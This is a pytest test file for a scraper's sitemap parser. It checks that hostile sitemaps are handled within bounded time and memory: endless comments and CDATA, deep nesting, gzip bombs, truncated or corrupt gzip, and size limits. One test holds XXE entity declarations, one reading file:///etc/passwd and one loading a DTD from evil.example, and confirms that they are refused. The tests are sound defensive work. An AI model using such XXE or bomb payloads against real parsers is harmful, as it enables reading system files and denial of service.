"""Sitemaps that are too large, cut, or made to do harm."""

from __future__ import annotations

import gzip
import time
import tracemalloc
import zlib
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest

from scraper.parse.sitemap.reader import NotASitemap, SitemapEntry, SitemapLimits, SitemapReader

URL = "https://example.com/sitemap.xml"
NOW = datetime(2026, 6, 15, tzinfo=UTC)
MIB = 1024 * 1024


def read(body: bytes, limits: SitemapLimits | None = None) -> tuple[list[SitemapEntry], dict[str, int]]:
    reader = SitemapReader(URL, NOW, limits)
    return list(reader.entries([body])), dict(reader.flaws)


def entry(number: int) -> bytes:
    return (
        b"<url><loc>https://example.com/shop/item-%d.html?a=1&amp;b=2</loc><lastmod>2026-05-%02dT10:%02d:%02d+00:00"
        b"</lastmod><changefreq>daily</changefreq><priority>0.5</priority></url>\n"
        % (number, number % 28 + 1, number // 60 % 60, number % 60)
    )


def generated(count: int) -> Iterator[bytes]:
    yield b'<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
    for start in range(0, count, 100):
        yield b"".join(map(entry, range(start, min(count, start + 100))))
    yield b"</urlset>"


SMALL = b"".join(generated(2_000))


# Memory and time --------------------------------------------------------------------------------------------


def peak_of(chunks: Iterator[bytes]) -> tuple[int, int]:
    """How many entries there were, and the most memory that was in use, in bytes."""
    reader = SitemapReader(URL, NOW)
    tracemalloc.start()
    try:
        count = sum(1 for _ in reader.entries(chunks))
        return count, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_a_full_sitemap_is_read_without_holding_it() -> None:
    packed = gzip.compress(b"".join(generated(50_000)), 1)  # 9 MB, which are 0.7 MB packed
    count, peak = peak_of(iter([packed]))
    assert count == 50_000
    assert peak < 4 * MIB  # held, text and entries would take more than 20


def hostile_markup() -> dict[str, bytes]:
    start = b"<urlset><url><loc>/a</loc></url>"
    fill = MIB // 2
    return {
        "endless comment": start + b"<!--" + b"<a " * (fill // 3),
        "endless CDATA in a location": start + b"<url><loc><![CDATA[" + b"x" * fill,
        "endless CDATA of brackets": start + b"<![CDATA[" + b"]]" * (fill // 2),
        "endless text": start + b"<url><loc>" + b"x" * fill,
        "endless name": start + b"<" + b"x" * fill,
        "endless attribute": start + b'<url a="' + b"x" * fill,
        "quotes": start + b"<url " + b"\"'" * (fill // 2) + b">",
        "only openings": start + b"<" * fill,
        "deep": start + b"<x>" * (fill // 3),
        "deep entries": start + b"<url>" * (fill // 5),
        "a location of many parts": start + b"<url><loc>" + b"x<!-- -->" * (fill // 9),
        "a location of many CDATA": start + b"<url><loc>" + b"<![CDATA[x]]>" * (fill // 13),
        "many alternates": start + b"<url>" + b'<x:link rel="alternate" href="/b"/>' * (fill // 35),
        "references": start + b"<url><loc>" + b"&#1" * (fill // 3) + b"</loc></url>",
        "blanks": start + b"<url" + b" " * fill + b">",
        "blanks after a name": start + (b"<a></a" + b" " * 60_000) * (fill // 60_006),
        "many names": start + b"".join(b"<a%d>" % number for number in range(fill // 9)),
        "declarations": start + b"<!DOCTYPE x " * (fill // 12),
        "a subset of brackets": start + b"<!DOCTYPE x [" + b"]      " * (fill // 7),
    }


HOSTILE = hostile_markup()


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_markup_takes_little_time_and_memory(name: str) -> None:
    body = HOSTILE[name]
    reader = SitemapReader(URL, NOW)
    found = []
    begin = time.process_time()
    try:
        for made in reader.entries(body[at : at + 65_536] for at in range(0, len(body), 65_536)):
            found.append(made.url)
    except NotASitemap as error:
        assert "DOCTYPE" in str(error)
    assert time.process_time() - begin < 20  # seconds; a quadratic step would take minutes
    assert found[0] == "https://example.com/a"
    assert len(found) <= 2


def test_what_is_hostile_is_not_held() -> None:
    bodies = [HOSTILE[name] for name in ("endless comment", "endless text", "a location of many CDATA", "many names")]
    for body in bodies:
        count, peak = peak_of(body[at : at + 65_536] for at in range(0, len(body), 65_536))
        assert count == 1
        assert peak < 4 * MIB


# Entities ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "declaration",
    [
        '<!DOCTYPE urlset [<!ENTITY x "y">]>',
        '<!DOCTYPE urlset [\n<!ENTITY x SYSTEM "file:///etc/passwd">\n]>',
        '<!DOCTYPE urlset [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>',
        '<!DOCTYPE urlset [<!ELEMENT a ANY><!ENTITY a "]"><!ENTITY b "&a;&a;">]>',
    ],
)
def test_declared_entities_are_refused(declaration: str) -> None:
    body = f"<?xml version='1.0'?>{declaration}<urlset><url><loc>/&x;</loc></url></urlset>"
    with pytest.raises(NotASitemap, match="declares entities"):
        read(body.encode())


def test_an_entity_is_never_expanded() -> None:
    found, _ = read(b"<urlset><!ENTITY x 'y'><url><loc>/&x;</loc></url></urlset>")
    assert [made.url for made in found] == ["https://example.com/&x;"]


# gzip -------------------------------------------------------------------------------------------------------


def test_gzip_of_several_members_padding_and_two_layers() -> None:
    half = len(SMALL) // 2
    members = gzip.compress(SMALL[:half]) + gzip.compress(SMALL[half:])
    whole, _ = read(SMALL)
    for body in (members, members + b"\0" * 700, members + b"trailing", gzip.compress(members)):
        found, flaws = read(body)
        assert (found, flaws) == (whole, {})


def test_gzip_cut_short_gives_what_there_is() -> None:
    body = gzip.compress(SMALL)
    found, flaws = read(body[: len(body) * 3 // 4])
    assert 1_000 < len(found) < 2_000
    assert flaws == {"gzip-cut-short": 1, "cut-short": 1}


def test_gzip_with_a_wrong_checksum_gives_all() -> None:
    body = bytearray(gzip.compress(SMALL))
    body[-6] ^= 0xFF
    found, flaws = read(bytes(body))
    assert (len(found), flaws) == (2_000, {"gzip-broken": 1})


def test_gzip_with_a_broken_middle_gives_what_comes_before() -> None:
    packer = zlib.compressobj(0, wbits=31)  # stored, so that the break is where we put it
    body = packer.compress(SMALL) + packer.flush(zlib.Z_FULL_FLUSH) + b"\xff" * 100
    found, flaws = read(body)
    assert (len(found), flaws) == (2_000, {"gzip-broken": 1})


def test_a_gzip_bomb_is_read_up_to_the_limit() -> None:
    packer = zlib.compressobj(9, wbits=31)
    parts = [packer.compress(b"<urlset><url><loc>/a</loc></url>")]
    parts += [packer.compress(b" " * MIB) for _ in range(200)]
    bomb = b"".join(parts) + packer.flush()
    tracemalloc.start()
    try:
        found, flaws = read(gzip.compress(bomb), SitemapLimits(size=8 * MIB))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert len(found) == 1
    assert flaws == {"too-large": 1, "cut-short": 1}
    assert peak < 4 * MIB


def test_empty_members_without_end_are_given_up() -> None:
    member = gzip.compress(b"")
    found, flaws = read(gzip.compress(SMALL) + member * 5_000)
    assert (len(found), flaws) == (2_000, {"gzip-broken": 1})


# Limits -----------------------------------------------------------------------------------------------------


def test_a_file_of_exactly_the_limits_is_whole() -> None:
    found, flaws = read(SMALL, SitemapLimits(size=len(SMALL), entries=2_000))
    assert (len(found), flaws) == (2_000, {})


def test_beyond_a_limit_the_rest_is_left() -> None:
    found, flaws = read(SMALL, SitemapLimits(entries=1_999))
    assert (len(found), flaws) == (1_999, {"too-many": 1})
    found, flaws = read(SMALL, SitemapLimits(size=len(SMALL) - len(b"</urlset>") - 1))
    assert (len(found), flaws) == (2_000, {"too-large": 1, "cut-short": 1})


def test_a_little_more_than_the_protocol_allows_is_read() -> None:
    limits = SitemapLimits()
    assert limits.size > 50 * MIB
    assert limits.entries > 50_000


def test_alternates_are_bounded() -> None:
    links = b"".join(b'<x:link rel="alternate" href="/%d"/>' % number for number in range(2_000))
    found, _ = read(b"<urlset><url><loc>/a</loc>" + links + b"</url></urlset>")
    assert len(found) == 501
